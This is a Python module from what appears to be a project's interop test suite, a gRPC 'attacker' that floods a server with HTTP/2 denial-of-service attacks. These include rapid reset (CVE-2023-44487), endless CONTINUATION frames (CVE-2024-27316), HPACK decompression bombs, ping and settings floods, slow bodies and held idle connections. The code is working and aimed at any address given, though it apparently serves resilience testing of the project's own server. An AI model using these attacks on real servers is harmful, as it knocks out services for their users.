"""A stranger with a grudge, on the gRPC port: one of the attacks below, from one machine, for some seconds.

Run as `python -m tests.interop.attacks.grpc_attacker JSON`; the JSON has `kind`, `address`, `port`, `seconds`, and as
they are wanted `connections` (at once), `tls` with `certificate` and `key`, and `local` (our own addresses, taken in
turn). Each connection that is closed is opened again. Prints as JSON how many connections were made, how many of them
were closed by the server, and how many bytes were sent.
"""

from __future__ import annotations

import itertools
import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.interop.attacks.frames import (
    AGAIN,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HEALTH,
    OLDER,
    OLDEST,
    OUTPUT,
    PING,
    PREFACE,
    REFLECTION,
    RESET,
    SETTINGS,
    UNACKNOWLEDGED,
    WINDOW_UPDATE,
    WORKFLOWS,
    block,
    frame,
    message,
    text,
)

_LAST_STREAM = 2**31 - 1
_CHUNK = 1000
_PAUSE = 0.05
"""Seconds before a connection that was refused or closed is tried again."""

# --- what is sent: pieces of bytes; after the last of them the connection is held -------------------------------------

Pieces = Iterator[bytes]


def _streams(first: bytes, again: bytes, rest: Callable[[int], bytes], most: int = _LAST_STREAM) -> Pieces:
    """Requests, one after the other, each followed by `rest(stream)`."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, first) + rest(1)
    head = len(again).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS))
    for begin in range(3, 2 * most, 2 * _CHUNK):
        streams = range(begin, min(begin + 2 * _CHUNK, 2 * most), 2)
        yield b"".join(head + struct.pack(">I", stream) + again + rest(stream) for stream in streams)


def _reset(stream: int) -> bytes:
    return frame(RESET, 0, stream, CANCEL)


def _whole(body: bytes) -> Callable[[int], bytes]:
    return lambda stream: frame(DATA, END_STREAM, stream, message(body))


def rapid_reset() -> Pieces:
    """CVE-2023-44487: each request is taken back at once."""
    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, _reset)


def reset_after_message() -> Pieces:
    """The same, but a whole request has arrived."""
    body = frame(DATA, END_STREAM, 0, message(b"\x0a\x01x"))

    def rest(stream: int) -> bytes:
        return body[:5] + struct.pack(">I", stream) + body[9:] + _reset(stream)

    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, rest)


def calls() -> Pieces:
    """Whole requests, for a machine that does not exist."""
    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, _whole(b"\x0a\x01x"))


def polls() -> Pieces:
    """tink-agent asks for work, for a machine that does not exist."""
    return _streams(block(OLDER, "GetAction"), AGAIN, _whole(b"\x0a\x01x"))


def contexts() -> Pieces:
    """tink-worker v0.8 does."""
    return _streams(block(OLDEST, "GetWorkflowContexts"), AGAIN, _whole(b"\x0a\x01x"))


def reports() -> Pieces:
    """Reports of which half has come, and the other half is another dialect's."""
    return _streams(block(OLDER, "ReportActionStatus"), AGAIN, _whole(b"\x0a\x01x\x20\x04\x22\x7fx"))


def unended_polls() -> Pieces:
    """Polls whose message never comes."""
    return _streams(block(OLDER, "GetAction"), AGAIN, lambda _: b"", 20_000)


def unknown_method() -> Pieces:
    return _streams(block("no.such", "Method"), AGAIN, _whole(b""))


def unended() -> Pieces:
    """Requests whose message never comes."""
    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, lambda _: b"", 20_000)


def watches() -> Pieces:
    """Calls that the health service keeps open for ever."""
    return _streams(block(HEALTH, "Watch"), AGAIN, _whole(b""), 20_000)


def reflections() -> Pieces:
    """Calls that reflection keeps open, for the caller may ask more."""
    asked = message(b"\x3a\x00")  # list_services
    return _streams(
        block(REFLECTION, "ServerReflectionInfo"), AGAIN, lambda stream: frame(DATA, 0, stream, asked), 20_000
    )


def outputs() -> Pieces:
    """Calls of the output service of which nothing comes."""
    return _streams(block(OUTPUT, "WriteOutput"), AGAIN, lambda _: b"", 20_000)


def metadata() -> Pieces:
    """Requests with as much metadata as they may have, in the receiver's table, so that it costs the sender nothing."""
    field_ = b"\x40" + text(b"x-large") + text(b"y" * 3800)
    first = block(WORKFLOWS, "GetWorkflows") + field_
    again = b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 2
    return _streams(first, again, lambda _: b"", 20_000)


def continuations() -> Pieces:
    """A header block that has no end (CVE-2024-27316)."""
    yield PREFACE + frame(HEADERS, 0, 1, block(WORKFLOWS, "GetWorkflows"))
    piece = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
    for _ in itertools.count():
        yield piece * 10


def indexed_bomb() -> Pieces:
    """A block of 16 kB that is 60 MB when it is unpacked."""
    large = b"\x40" + text(b"x") + text(b"y" * 3800)
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows") + large)
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS, stream, b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 16_000)


def resting_bomb() -> Pieces:
    """Send 84 kB that expand to 300 MB, as a client that acknowledges no limit; then stay silent."""
    large = b"\x40" + text(b"x" * 3800) + text(b"")
    named = b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 4_000
    first = UNACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows") + large)
    yield first + b"".join(frame(HEADERS, END_HEADERS, stream, named) for stream in range(3, 43, 2))


def pings() -> Pieces:
    yield PREFACE
    for _ in itertools.count():
        yield frame(PING, 0, 0, b"attacker") * _CHUNK


def settings() -> Pieces:
    yield PREFACE
    for _ in itertools.count():
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK


def windows() -> Pieces:
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows"))
    for _ in itertools.count():
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK


def empty_data() -> Pieces:
    """Frames of a message that never begins."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows"))
    for _ in itertools.count():
        yield frame(DATA, 0, 1) * _CHUNK


def slow_bodies() -> Pieces:
    """Messages that come byte by byte."""
    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "PublishEvent"))
    yield b"".join(frame(HEADERS, END_HEADERS, stream, AGAIN) for stream in range(3, 200, 2))
    for index in itertools.count():
        body = message(bytes(100_000))[index : index + 1]
        time.sleep(1)
        yield b"".join(frame(DATA, 0, stream, body) for stream in range(1, 200, 2))


def idle() -> Pieces:
    """Nothing at all."""
    yield b""


def preface() -> Pieces:
    """The beginning of a connection, and nothing more."""
    yield PREFACE


def half_handshake() -> Pieces:
    """The first bytes of a TLS handshake."""
    yield bytes.fromhex("16030102000100")


KINDS: dict[str, Callable[[], Pieces]] = {
    each.__name__: each
    for each in (
        *(rapid_reset, reset_after_message, calls, unknown_method, unended, watches, reflections, outputs),
        *(metadata, continuations, indexed_bomb, resting_bomb, pings, settings, windows, empty_data, slow_bodies),
        *(idle, preface, half_handshake, polls, contexts, reports, unended_polls),
    )
}

# --- how --------------------------------------------------------------------------------------------------------------


@dataclass
class Attack:
    """`churn`: a connection is closed and made anew after its first piece."""

    kind: str
    address: str
    port: int
    seconds: float
    connections: int = 1
    tls: bool = False
    churn: bool = False
    certificate: str = ""
    key: str = ""
    local: list[str] = field(default_factory=list)
    made: int = 0
    refused: int = 0
    closed: int = 0
    sent: int = 0

    def run(self) -> None:
        self._end = time.monotonic() + self.seconds
        self._turn = itertools.cycle(self.local or [""])
        if self.kind in ("idle", "preface", "half_handshake") and not self.churn:
            self._hold()
            return
        threads = [threading.Thread(target=self._again_and_again) for _ in range(self.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _connect(self) -> socket.socket | None:
        family = socket.AF_INET6 if ":" in self.address else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        try:
            sock.settimeout(2)
            if local := next(self._turn):
                sock.bind((local, 0))
            sock.connect((self.address, self.port))
            if self.tls:
                sock = self._trusting().wrap_socket(sock)
        except OSError:
            self.refused += 1
            sock.close()
            return None
        self.made += 1
        return sock

    def _trusting(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context

    def _hold(self) -> None:
        """As many connections as there can be, kept."""
        held: list[socket.socket] = []
        opening = next(KINDS[self.kind]())
        poll = select.poll()
        while time.monotonic() < self._end:
            while len(held) < self.connections and time.monotonic() < self._end:
                sock = self._connect()
                if sock is None:
                    break
                sock.sendall(opening)
                self.sent += len(opening)
                held.append(sock)
                poll.register(sock, select.POLLRDHUP | select.POLLHUP)
            gone = {handle for handle, _ in poll.poll(50)}
            self.closed += len(gone)
            for sock in [each for each in held if each.fileno() in gone]:
                poll.unregister(sock)
                held.remove(sock)
                sock.close()
        print(json.dumps({"held": len(held)}), file=sys.stderr)

    def _again_and_again(self) -> None:
        while time.monotonic() < self._end:
            sock = self._connect()
            if sock is not None:
                with sock:
                    self._speak(sock)
            if not self.churn:
                time.sleep(_PAUSE)

    def _speak(self, sock: socket.socket) -> None:
        """All pieces, and then silence, until the server closes it or the time is over."""
        sock.settimeout(0.02)
        try:
            for piece in KINDS[self.kind]():
                view = memoryview(piece)
                while view:
                    self._drain(sock)
                    if time.monotonic() > self._end:
                        return
                    try:
                        count = sock.send(view)
                    except TimeoutError:
                        continue
                    view = view[count:]
                    self.sent += count
                if self.churn:
                    return
            while time.monotonic() < self._end:
                self._drain(sock)
                time.sleep(0.02)
        except OSError:
            self.closed += 1

    def _drain(self, sock: socket.socket) -> None:
        """Read what there is. Raises ConnectionResetError at its end."""
        while select.select([sock], [], [], 0)[0]:
            try:
                if not sock.recv(1 << 16):
                    raise ConnectionResetError
            except (TimeoutError, ssl.SSLWantReadError):
                return


def main(arguments: dict[str, Any]) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = Attack(**arguments)
    attack.run()
    print(json.dumps({key: getattr(attack, key) for key in ("made", "refused", "closed", "sent")}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
